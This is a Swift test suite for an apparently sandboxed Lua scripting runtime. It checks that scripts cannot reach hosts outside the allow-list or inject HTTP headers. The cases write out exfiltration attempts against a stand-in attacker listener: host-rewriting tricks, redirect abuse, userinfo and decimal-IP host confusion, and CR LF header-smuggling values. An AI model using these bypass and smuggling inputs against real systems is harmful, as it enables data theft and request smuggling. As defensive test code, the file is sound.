import Foundation
import LunarBridge
import LunarNetworkLua
import LunarRuntime
import LunarTestSupport
import Testing

/// The fault catalogue, part 5: a script tries to reach a host its bundle does not allow, or to
/// smuggle headers onto the wire (issue 23 items 4 and 5). The bundle allows only
/// `api.example.com` and runs against a loopback API (as `lunar run` points it at the mock API);
/// a second loopback listener stands for the attacker. Each attempt ends in a `policy` error
/// table in the script's callback, or an error raised at the script's line, and no connection
/// reaches the listener (nor, for a refused header, the API).
@Suite struct NetworkPolicyCatalogue {
    enum Outcome: Sendable {
        /// The send's callback gets an error table of this kind.
        case delivered(kind: String)
        /// The attempt raises at the line marked `--[[raise]]`, with a message containing this.
        case raised(says: String)
    }

    struct Attempt: Sendable, CustomTestStringConvertible {
        let name: String
        /// The body of `attempt()`. `EXFIL` is the listener's base URL, `EXFIL_HOSTPORT` its
        /// `127.0.0.1:port`, `API` the API's; `done(result, err)` records the outcome.
        let lua: String
        let outcome: Outcome
        var testDescription: String { name }
    }

    static let manifestAPI = #"{"baseURL": "https://api.example.com", "allowedHosts": ["api.example.com"]}"#

    static let cases: [Attempt] = [
        Attempt(name: "url to a loopback listener on another port (the report)",
                lua: #"net.send(net.request{ url = EXFIL .. "/exfil?secret=1" }, done)"#, outcome: .delivered(kind: "policy")),
        Attempt(name: "base URL switched with net.config",
                lua: #"net.config{ baseURL = EXFIL } net.send(net.request{ path = "/exfil" }, done)"#, outcome: .delivered(kind: "policy")),
        Attempt(name: "a request's own baseURL",
                lua: #"net.send(net.request{ path = "/exfil", baseURL = EXFIL }, done)"#, outcome: .delivered(kind: "policy")),
        Attempt(name: "a URL filter rewriting the host",
                lua: #"""
                net.config{ filters = { function(url) return (url:gsub("^" .. API:gsub("%p", "%%%0"), EXFIL)) end } }
                net.send(net.request{ path = "/exfil" }, done)
                """#, outcome: .delivered(kind: "policy")),
        Attempt(name: "a redirect from the API to the listener",
                lua: #"net.send(net.request{ path = "/redirect" }, done)"#, outcome: .delivered(kind: "policy")),
        Attempt(name: "a member of a batch",
                lua: #"net.send(net.batch{ net.request{ path = "/ok" }, net.request{ url = EXFIL .. "/x" } }, done)"#,
                outcome: .delivered(kind: "policy")),
        Attempt(name: "a step of a chain",
                lua: #"net.send(net.chain(net.request{ path = "/ok" }, function() return net.request{ url = EXFIL .. "/x" } end), done)"#,
                outcome: .delivered(kind: "policy")),
        Attempt(name: "a signal",
                lua: #"net.signal(net.request{ url = EXFIL .. "/x" }):subscribe(function(v) done(v) end, function(e) done(nil, e) end)"#,
                outcome: .delivered(kind: "policy")),
        Attempt(name: "the allowed host as user info before the real host",
                lua: #"net.send(net.request{ url = "http://api.example.com@" .. EXFIL_HOSTPORT .. "/x" }, done)"#,
                outcome: .delivered(kind: "policy")),
        Attempt(name: "the loopback address written as one decimal number",
                lua: #"net.send(net.request{ url = "http://2130706433:" .. EXFIL_HOSTPORT:match(":(%d+)$") .. "/x" }, done)"#,
                outcome: .delivered(kind: "policy")),
        Attempt(name: "a scheme other than http and https",
                lua: #"net.send(net.request{ url = "ftp://" .. EXFIL_HOSTPORT .. "/x" }, done)"#, outcome: .delivered(kind: "policy")),
        Attempt(name: "a header name with CR LF smuggling a second request",
                lua: #"""
                local req = net.request{ path = "/ok", headers = { ["X-A: 1\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\nX-B"] = "1" } } --[[raise]]
                net.send(req, done)
                """#, outcome: .raised(says: "bad argument #1 to 'net.request' (field 'headers': header name \"X-A: 1\\r\\n")),
        Attempt(name: "a header value with CR LF",
                lua: #"net.send(net.request{ path = "/ok", headers = { ["X-Note"] = "a\r\nX-Injected: 1" } }, done) --[[raise]]"#,
                outcome: .raised(says: "the value of header \"X-Note\" has a carriage return (CR)")),
        Attempt(name: "a header name with CR LF in net.config",
                lua: #"net.config{ headers = { ["X-Client\r\nX-Injected"] = "1" } } --[[raise]] net.send(net.request{ path = "/ok" }, done)"#,
                outcome: .raised(says: "bad argument #1 to 'net.config' (field 'headers': header name \"X-Client\\r\\nX-Injected\"")),
        Attempt(name: "a header put on the request table after net.request",
                lua: #"""
                local req = net.request{ path = "/ok" }
                req.headers = { ["X-Late\n"] = "1" }
                net.send(req, done) --[[raise]]
                """#, outcome: .raised(says: "bad argument #1 to 'net.send' (field 'headers': header name \"X-Late\\n\" has a line feed (LF)")),
        Attempt(name: "a header value with a NUL",
                lua: #"net.send(net.request{ path = "/ok", headers = { ["X-Note"] = "a\0b" } }, done) --[[raise]]"#,
                outcome: .raised(says: "the value of header \"X-Note\" has a NUL")),
    ]

    @Test(arguments: cases)
    func attemptIsRefusedAndReachesNoOne(_ attempt: Attempt) async throws {
        let exfil = try LoopbackServer { _ in .json(#"{"stolen":true}"#) }
        let api = try LoopbackServer { request in
            request.path == "/redirect" ? .respond(status: 302, headers: ["Location": "\(exfil.baseURL)/exfil"], body: []) : .json(#"{"ok":true}"#)
        }
        defer { exfil.stop(); api.stop() }
        let app = try await FaultApp(files: [:], apiBaseURL: api.baseURL, api: Self.manifestAPI)
        let prelude = """
            local net = require("lunar.net")
            local EXFIL, EXFIL_HOSTPORT, API = "\(exfil.baseURL)", "127.0.0.1:\(exfil.port)", "\(api.baseURL)"
            local function done(result, err) OUTCOME = err and { kind = err.kind, message = err.message } or { kind = "none" } end
            function attempt()
            """
        let source = prelude + "\n" + attempt.lua + "\nend\n"
        _ = try await app.lua(source, name: "@policy.lua")
        let raised = try await app.lua("local ok, e = pcall(attempt) return not ok and tostring(e) or nil").first?.stringValue
        #expect(await app.runtime.wait(timeout: 10), "the request never ended")
        switch attempt.outcome {
        case .delivered(let kind):
            #expect(raised == nil, "raised: \(raised ?? "")")
            let outcome = try await app.lua("return OUTCOME and OUTCOME.kind, OUTCOME and OUTCOME.message")
            #expect(outcome.first?.stringValue == kind, "got \(outcome)")
            #expect(outcome.last?.stringValue?.contains("is refused") == true, "message: \(outcome)")
        case .raised(let says):
            let line = try #require(source.lineNumber(of: "--[[raise]]"))
            #expect(raised?.hasPrefix("policy.lua:\(line): ") == true, "raised: \(raised ?? "nothing")")
            #expect(raised?.contains(says) == true, "raised: \(raised ?? "nothing")")
            #expect(api.connectionCount == 0, "a request with a bad header went out")
        }
        #expect(exfil.connectionCount == 0, "the listener was reached")
        let running = await app.runtime.withHost { _, state in state[extension: ScriptNetwork.self]?.runningCount }
        #expect(running == 0)
        #expect(app.reported.isEmpty, "reported: \(app.reported)")
        #expect(try await app.assertUsable())
    }
}
